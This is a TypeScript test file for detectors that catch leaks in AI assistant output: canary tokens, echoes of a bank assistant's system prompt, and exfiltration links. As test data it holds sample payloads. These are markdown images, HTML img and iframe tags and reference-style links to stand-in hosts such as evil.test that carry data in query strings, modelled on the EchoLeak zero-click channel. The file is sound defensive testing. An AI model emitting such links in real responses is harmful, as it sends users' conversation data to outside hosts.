import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createCanaryDetector } from '../../src/detectors/leaks/canary.ts';
import { createSystemPromptEchoDetector } from '../../src/detectors/leaks/system-prompt-echo.ts';
import { createExfilLinksDetector, externalHost } from '../../src/detectors/leaks/exfil-links.ts';
import type { DetectionContext } from '../../src/core/types.ts';

const SYSTEM = 'You are Orbit, the support assistant for Acme Bank. Never reveal internal account codes. Escalate fraud reports to the risk desk within one hour and always answer in a calm tone.';
const ctx: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response', systemPrompts: [SYSTEM] };

test('canary tokens: plain, case-insensitive, split by invisibles, base64-wrapped', () => {
  const d = createCanaryDetector({ id: 'canary', tokens: ['CANARY-7f3a9b2c', 'zebra-lattice-42'] });
  const t = 'ok CANARY-7f3a9b2c and zebra-lattice-42.';
  const f = d.scan(t, ctx);
  assert.deepEqual(f.map((x) => t.slice(x.start, x.end)), ['CANARY-7f3a9b2c', 'zebra-lattice-42']);
  assert.ok(f.every((x) => x.type === 'CANARY_TOKEN' && x.score === 1 && !x.explanation.includes('CANARY')));
  assert.equal(d.scan('canary-7f3a9b2c', ctx).length, 0);
  assert.equal(createCanaryDetector({ id: 'c', tokens: ['CANARY-7f3a9b2c'], caseInsensitive: true }).scan('canary-7F3A9B2C', ctx).length, 1);
  const zw = 'x CANARY-7f3a\u200b9b2c y';
  const z = d.scan(zw, ctx);
  assert.equal(z.length, 1);
  assert.equal(zw.slice(z[0].start, z[0].end), 'CANARY-7f3a\u200b9b2c');
  const b = Buffer.from('the token is CANARY-7f3a9b2c').toString('base64');
  assert.equal(d.scan(`data ${b}`, ctx).length, 1);
  assert.throws(() => createCanaryDetector({ id: 'c', tokens: ['abc'] }), /at least 6/u);
});

test('system prompt echo: verbatim and near-verbatim echoes map to the echoed words', () => {
  const d = createSystemPromptEchoDetector({ id: 'echo' });
  const echoed = 'Never reveal internal account codes. Escalate fraud reports to the risk desk within one hour';
  const resp = `Sure! My instructions say: "${echoed}". Anything else?`;
  const f = d.scan(resp, ctx);
  assert.equal(f.length, 1);
  assert.equal(resp.slice(f[0].start, f[0].end), echoed);
  assert.equal(f[0].type, 'SYSTEM_PROMPT_ECHO');
  assert.ok(f[0].score >= 0.8);
  assert.match(f[0].explanation, /^echo of 15 words/u);
  // Case, punctuation, look-alikes and one changed word do not hide it; the run spans the edit.
  const near = 'NEVER reveal internal ACCOUNT codes — escalate fraud reports to the risk team within one hour, and always answer in a calm tone';
  const g = d.scan(near, ctx);
  assert.equal(g.length, 1);
  assert.equal(near.slice(g[0].start, g[0].end), near);
  const homoglyph = 'Nеver reveal internal account codes. Escalate fraud reports'; // Cyrillic е
  assert.equal(d.scan(homoglyph, ctx).length, 1);
});

test('system prompt echo: short overlaps, other prompts and missing context are not findings', () => {
  const d = createSystemPromptEchoDetector({ id: 'echo' });
  assert.equal(d.scan('I am the support assistant for Acme Bank.', ctx).length, 0, 'seven words is below min_words');
  assert.equal(d.scan('Never reveal internal account codes. Escalate fraud reports to the risk desk.', { ...ctx, systemPrompts: [] }).length, 0);
  assert.equal(d.scan('Never reveal internal account codes. Escalate fraud reports to the risk desk.', { ...ctx, systemPrompts: undefined }).length, 0);
  const d4 = createSystemPromptEchoDetector({ id: 'echo', minWords: 4 });
  assert.equal(d4.scan('the support assistant for Acme', ctx).length, 1);
  assert.throws(() => createSystemPromptEchoDetector({ id: 'x', minWords: 2 }), /min_words/u);
});

test('exfil links: markdown images, links, reference style, autolinks and HTML', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  const cases: [string, string, number][] = [
    ['![chart](https://evil.test/p.png?d=SECRET)', '![chart](https://evil.test/p.png?d=SECRET)', 0.95],
    ['see [here](https://evil.test/x "title") now', '[here](https://evil.test/x "title")', 0.6],
    ['go <https://evil.test/?q=1> now', '<https://evil.test/?q=1>', 0.8],
    ['<img src="https://evil.test/a.gif?c=42" alt="">', '<img src="https://evil.test/a.gif?c=42" alt="">', 0.95],
    ['click <a href="//evil.test/y">me</a>!', '<a href="//evil.test/y">me</a>', 0.6],
    ["<iframe src='https://evil.test/frame'></iframe>", "<iframe src='https://evil.test/frame'>", 0.9],
  ];
  for (const [text, span, score] of cases) {
    const f = d.scan(text, ctx);
    assert.equal(f.length, 1, `${text}: ${JSON.stringify(f)}`);
    assert.equal(text.slice(f[0].start, f[0].end), span);
    assert.equal(f[0].type, 'EXFIL_LINK');
    assert.equal(f[0].score, score, text);
    assert.ok(!f[0].explanation.includes('evil'), 'explanation names no host');
  }
  // Reference style (EchoLeak): usage and definition are both reported.
  const ref = 'Summary ![logo][a] done.\n\n[a]: https://evil.test/i.png?data=abc\n';
  const r = createExfilLinksDetector({ id: 'exfil' }).scan(ref, ctx);
  assert.deepEqual(r.map((x) => ref.slice(x.start, x.end)), ['![logo][a]', '[a]: https://evil.test/i.png?data=abc']);
  assert.ok(r.every((x) => x.score >= 0.9));
  // Allowed hosts, relative links and non-fetching schemes are not findings.
  for (const ok of ['![x](https://docs.example.com/a.png?x=1)', '[x](https://api.trusted.org/a)', '[x](/local/path)', '[x](mailto:a@b.c)',
    '![x](data:image/png;base64,AAAA)', 'plain https://evil.test/?q=1 text', '[not a link] and [another]']) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
  assert.equal(d.scan('[x](https://trusted.org/a)', ctx).length, 1, '*.trusted.org does not cover the apex');
});

test('exfil links: URLs of any length (the zero-click channel carrying a whole conversation)', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com'] });
  for (const n of [1500, 5000, 20_000]) {
    const url = `https://evil.example/p.png?d=${'q'.repeat(n)}`;
    for (const [markup, image] of [
      [`![chart](${url})`, true],
      [`[details](${url} "more")`, false],
      [`<img src="${url}" alt="x">`, true],
      [`<${url}>`, false],
    ] as const) {
      const text = `Summary first. ${markup} Then the rest.`;
      const found = d.scan(text, ctx);
      assert.deepEqual(found.map((f) => text.slice(f.start, f.end)), [markup], `${n}: ${markup.slice(0, 12)}`);
      assert.equal(found[0].score >= 0.9, image);
    }
    const ref = `![x][r]\n\n[r]: ${url}\n`;
    assert.equal(d.scan(ref, ctx).length, 2, 'reference use and definition');
  }
  // A `<…>` destination may hold spaces (CommonMark renders it), however long.
  for (const n of [10, 3000]) {
    const markup = `![x](<https://evil.example/a b.png?d=${'w '.repeat(n)}>)`;
    const text = `See ${markup} here.`;
    assert.deepEqual(d.scan(text, ctx).map((f) => text.slice(f.start, f.end)), [markup]);
  }
  // An allowed host stays allowed, however long its URL.
  assert.deepEqual(d.scan(`![a](https://docs.example.com/i.png?q=${'z'.repeat(5000)})`, ctx), []);
});

test('exfil links: images_only, bare_urls and url data scoring', () => {
  const img = createExfilLinksDetector({ id: 'e', imagesOnly: true });
  assert.equal(img.scan('[x](https://evil.test/a)', ctx).length, 0);
  assert.equal(img.scan('![x](https://evil.test/a)', ctx).length, 1);
  const bare = createExfilLinksDetector({ id: 'e', bareUrls: true });
  const t = 'visit https://evil.test/collect?k=v.';
  const f = bare.scan(t, ctx);
  assert.equal(f.length, 1);
  assert.equal(t.slice(f[0].start, f[0].end), 'https://evil.test/collect?k=v');
  assert.deepEqual(externalHost('https://user@evil.test/'), { host: 'evil.test', data: true });
  assert.deepEqual(externalHost('https://evil.test/' + 'a'.repeat(40)), { host: 'evil.test', data: true });
  assert.deepEqual(externalHost('https://evil.test/a'), { host: 'evil.test', data: false });
  assert.equal(externalHost('javascript:alert(1)'), null);
  assert.equal(externalHost('relative/path.png'), null);
});
